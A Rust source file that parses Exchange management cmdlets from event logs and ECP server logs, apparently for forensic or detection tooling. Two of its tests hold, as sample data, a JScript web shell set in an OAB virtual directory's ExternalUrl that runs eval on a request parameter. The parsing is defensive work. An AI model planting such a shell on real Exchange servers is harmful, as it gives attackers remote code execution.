//! Cmdlet: a command of the Exchange management shell as logs write it down, with its parameters.

/// Parameters of one command that are read.
const PARAMETERS_MAX: usize = 256;

/// A command with its parameters.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Cmdlet {
    /// `Set-OabVirtualDirectory`.
    pub name: String,
    /// The parameters, in order: name without the dash, and value without the quotes around it.
    pub parameters: Vec<(String, String)>,
}

impl Cmdlet {
    /// From a name and parameters as in `-Identity "OAB (Default Web Site)" -Force "True"`. A value may hold quotes: it ends at a
    /// quote that a blank and a dash, or the end, follow.
    #[must_use]
    pub fn with_parameters(name: &str, parameters: &str) -> Self {
        let mut cmdlet = Self {
            name: name.trim().to_owned(),
            parameters: Vec::new(),
        };
        let mut rest = parameters.trim();
        while let Some(after_dash) = rest.strip_prefix('-') {
            if cmdlet.parameters.len() == PARAMETERS_MAX {
                break;
            }
            let end = after_dash.find([' ', ':', '=']).unwrap_or(after_dash.len());
            let (parameter, value) = after_dash.split_at(end);
            let value = value.trim_start_matches([' ', ':', '=']);
            let (value, after) = take_value(value);
            cmdlet
                .parameters
                .push((parameter.to_owned(), value.to_owned()));
            rest = after.trim_start();
        }
        cmdlet
    }

    /// From the text of an event of `MSExchange Management`: `Cmdlet suceeded. Cmdlet X, parameters -A "..."`.
    #[must_use]
    pub fn from_message(message: &str) -> Option<Self> {
        // The typing error is Exchange's own; newer builds have none.
        let after = message.split_once("Cmdlet ").map(|(_, after)| after)?;
        let after = after
            .strip_prefix("suceeded.")
            .or_else(|| after.strip_prefix("succeeded."))
            .or_else(|| after.strip_prefix("failed."));
        let after = match after {
            Some(after) => after.trim_start().strip_prefix("Cmdlet ")?,
            None => message.split_once("Cmdlet ")?.1,
        };
        let (name, parameters) = after.split_once(", parameters ").unwrap_or((after, ""));
        let name = name.trim_end_matches(['.', ' ', '\r', '\n']);
        if name.is_empty() || name.contains(char::is_whitespace) {
            return None;
        }
        Some(Self::with_parameters(
            name,
            parameters.trim_end().trim_end_matches('.'),
        ))
    }

    /// From `CMD=` of the ECP server log: `Set-OabVirtualDirectory.ExternalUrl='http://...'.Identity='...'`; commands of a
    /// pipeline follow after `|`.
    #[must_use]
    pub fn from_ecp(text: &str) -> Vec<Self> {
        let mut cmdlets = Vec::new();
        let mut rest = text.trim();
        while !rest.is_empty() && cmdlets.len() < 16 {
            let end = rest.find(['.', '|']).unwrap_or(rest.len());
            let mut cmdlet = Self {
                name: rest[..end].trim().to_owned(),
                parameters: Vec::new(),
            };
            rest = &rest[end..];
            while let Some(after) = rest.strip_prefix('.') {
                let Some((name, after)) = after.split_once('=') else {
                    rest = "";
                    break;
                };
                let (value, after) = take_single_quoted(after);
                if cmdlet.parameters.len() < PARAMETERS_MAX {
                    cmdlet
                        .parameters
                        .push((name.trim().to_owned(), value.to_owned()));
                }
                rest = after;
            }
            rest = rest
                .trim_start()
                .strip_prefix('|')
                .unwrap_or("")
                .trim_start();
            if !cmdlet.name.is_empty() {
                cmdlets.push(cmdlet);
            }
        }
        cmdlets
    }

    /// The value of a parameter; the case of letters does not matter.
    #[must_use]
    pub fn value(&self, name: &str) -> Option<&str> {
        let found = self
            .parameters
            .iter()
            .find(|(known, _)| known.eq_ignore_ascii_case(name));
        found.map(|(_, value)| value.as_str())
    }

    /// Whether it is the command of that name.
    #[must_use]
    pub fn is(&self, name: &str) -> bool {
        self.name.eq_ignore_ascii_case(name)
    }
}

fn take_value(text: &str) -> (&str, &str) {
    let quote = match text.as_bytes().first() {
        Some(b'"') => '"',
        Some(b'\'') => '\'',
        Some(b'-') | None => return ("", text),
        Some(_) => {
            let end = text.find(" -").unwrap_or(text.len());
            return (text[..end].trim_end(), &text[end..]);
        }
    };
    let inner = &text[1..];
    let mut from = 0;
    while let Some(found) = inner[from..].find(quote) {
        let at = from + found;
        let after = &inner[at + 1..];
        if after.trim_start().is_empty()
            || (after.starts_with(' ') && after.trim_start().starts_with('-'))
        {
            return (&inner[..at], after);
        }
        from = at + 1;
    }
    (inner, "")
}

/// A value in single quotes, which may be doubled, or up to the next dot or bar.
fn take_single_quoted(text: &str) -> (&str, &str) {
    let Some(inner) = text.strip_prefix('\'') else {
        let end = text.find(['.', '|']).unwrap_or(text.len());
        return text.split_at(end);
    };
    // The value ends at a quote before `.Name=`, `|` or the end; quotes inside may or may not be doubled.
    let mut from = 0;
    while let Some(found) = inner[from..].find('\'') {
        let at = from + found;
        let after = &inner[at + 1..];
        let ends = after.trim_start_matches('\'');
        let is_end = ends.is_empty() || ends.starts_with('|') || is_next_parameter(ends);
        if is_end {
            return (inner[..at].trim_matches('\''), ends);
        }
        from = at + 1;
    }
    (inner, "")
}

fn is_next_parameter(text: &str) -> bool {
    let Some(after) = text.strip_prefix('.') else {
        return false;
    };
    let name = after.bytes().take_while(u8::is_ascii_alphanumeric).count();
    name > 0 && after[name..].starts_with('=')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_event_of_a_directory_that_carries_a_program_is_read() {
        let message = "Cmdlet suceeded. Cmdlet Set-OabVirtualDirectory, parameters -ExternalUrl \"http://ffff/#<script \
            language=\"JScript\" runat=\"server\"> function Page_Load(){/**/eval(Request[\"code\"],\"unsafe\");}</script>\" \
            -Identity \"OAB (Default Web Site)\".";
        let cmdlet = Cmdlet::from_message(message).unwrap();
        assert!(cmdlet.is("set-oabvirtualdirectory"));
        assert!(
            cmdlet
                .value("ExternalUrl")
                .unwrap()
                .ends_with("\"unsafe\");}</script>")
        );
        assert_eq!(cmdlet.value("identity"), Some("OAB (Default Web Site)"));
    }

    #[test]
    fn parameters_stand_with_and_without_quotes() {
        let cmdlet =
            Cmdlet::with_parameters("X", "-Force:$true -Name 'a b' -Size 5 -Switch -Last \"z\"");
        let values: Vec<_> = cmdlet
            .parameters
            .iter()
            .map(|(name, value)| (name.as_str(), value.as_str()))
            .collect();
        assert_eq!(
            values,
            [
                ("Force", "$true"),
                ("Name", "a b"),
                ("Size", "5"),
                ("Switch", ""),
                ("Last", "z")
            ]
        );
    }

    #[test]
    fn the_ecp_log_writes_in_its_own_way() {
        let text = "Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"JScript\" runat=\"server\">function \
            Page_Load(){eval(Request['x'],'unsafe');}</script>'.Identity='3f7d'|Get-OabVirtualDirectory.ADPropertiesOnly=$true";
        let cmdlets = Cmdlet::from_ecp(text);
        assert_eq!(cmdlets.len(), 2);
        assert!(
            cmdlets[0]
                .value("ExternalUrl")
                .unwrap()
                .contains("</script>")
        );
        assert_eq!(cmdlets[0].value("Identity"), Some("3f7d"));
        assert_eq!(cmdlets[1].value("ADPropertiesOnly"), Some("$true"));
        assert_eq!(
            Cmdlet::from_ecp("Get-InboxRule")
                .first()
                .map(|cmdlet| cmdlet.name.as_str()),
            Some("Get-InboxRule")
        );
    }

    #[test]
    fn what_is_no_command_is_nothing() {
        assert_eq!(Cmdlet::from_message("Cmdlet "), None);
        assert_eq!(Cmdlet::from_message("anything"), None);
        assert_eq!(Cmdlet::from_ecp("").len(), 0);
    }
}
